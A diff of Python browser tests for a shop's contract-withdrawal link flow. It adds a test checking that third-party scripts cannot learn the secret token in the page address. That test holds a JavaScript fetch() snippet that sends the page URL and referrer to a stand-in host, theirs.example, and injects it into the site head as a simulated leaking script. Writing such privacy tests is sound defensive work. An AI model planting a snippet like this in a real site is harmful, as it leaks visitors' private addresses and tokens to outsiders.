@@ -18,6 +18,10 @@ IS_COVERED = """(link) => {
         (x) => !link.contains(document.elementFromPoint(x, (top + bottom) / 2))
     );
 }"""
+# What scripts of others do, some as soon as they can.
+TELL_ADDRESS = """fetch("https://theirs.example/tell?" + new URLSearchParams(
+    {address: location.href, came_from: document.referrer}
+), {mode: "no-cors"})"""
 EMAIL = "phone@kunde.example"
 SELL = """
 website = env["website"].search([], order="id", limit=1)
@@ -44,6 +48,21 @@ def sold(queue):
     name = queue.do(SELL.format(email=EMAIL))
     queue.do(SEND_MAILS)
     return name
+
+
+def read_link(shop, sold):
+    """Return the address that the mail of the order leads to."""
+    [mail] = mails_to(shop, EMAIL, sold)
+    [address] = re.findall(r'href="([^"]*/withdrawal\?[^"]*)"', mail["html"])
+    assert "Vertrag widerrufen" in mail["html"]
+    return address.replace("&amp;", "&")
+
+
+def see_plain_address(visitor, selector):
+    """Wait for a part of a page that has a secret, which its address must not show."""
+    visitor.page.locator(selector).wait_for()
+    visitor.wait_until_usable()
+    assert visitor.page.url == f"{visitor.url}/withdrawal"
 
 
 def get_overflow(page):
@@ -99,11 +118,8 @@ def test_link_steps_and_receipt_are_accessible(new_visitor):
 def test_a_buyer_who_has_only_the_mail_withdraws_by_keyboard(
     shop, queue, new_visitor, sold
 ):
-    [mail] = mails_to(shop, EMAIL, sold)
-    [address] = re.findall(r'href="([^"]*/withdrawal\?[^"]*)"', mail["html"])
-    assert "Vertrag widerrufen" in mail["html"]
     page = new_visitor(viewport=PHONE, java_script_enabled=False).page
-    page.goto(address.replace("&amp;", "&"))
+    page.goto(read_link(shop, sold))
     assert page.locator("#buyer_name").input_value() == "Erika Mustermann"
     assert page.locator("#email").input_value() == EMAIL
     assert get_overflow(page) <= 0
@@ -125,3 +141,31 @@ def test_a_buyer_who_has_only_the_mail_withdraws_by_keyboard(
     queue.do(SEND_MAILS)
     [receipt] = mails_to(shop, EMAIL, "Widerruf erhalten")
     assert sold in receipt["html"] and "2 × Lamp" in receipt["html"]
+
+
+def test_scripts_of_others_do_not_learn_the_secret_of_an_address(
+    shop, new_visitor, sold, change
+):
+    at_once = f"<script>{TELL_ADDRESS}</script>"
+    change("website", google_analytics_key="G-1", custom_code_head=at_once)
+    visitor = new_visitor()
+    page, told = visitor.page, []
+    page.route(
+        re.compile(rf"^(?!{re.escape(visitor.url)}/)"),
+        lambda route: (told.append(route.request), route.fulfill(body=TELL_ADDRESS)),
+    )
+    page.goto(read_link(shop, sold))
+    see_plain_address(visitor, ".o_withdrawal_articles")
+    page.reload()
+    see_plain_address(visitor, ".o_withdrawal_articles")
+    page.click(".o_withdrawal_form button")
+    page.click(".o_withdrawal_confirm button")
+    see_plain_address(visitor, "#wrap [role='status']")
+    page.reload()
+    see_plain_address(visitor, "#wrap [role='status']")
+    said = "\n".join(
+        f"{request.url} {request.post_data} {request.headers}" for request in told
+    )
+    assert "googletagmanager" in said and "theirs.example" in said
+    assert re.findall("contract|receipt", said) == []
+    assert visitor.errors == []
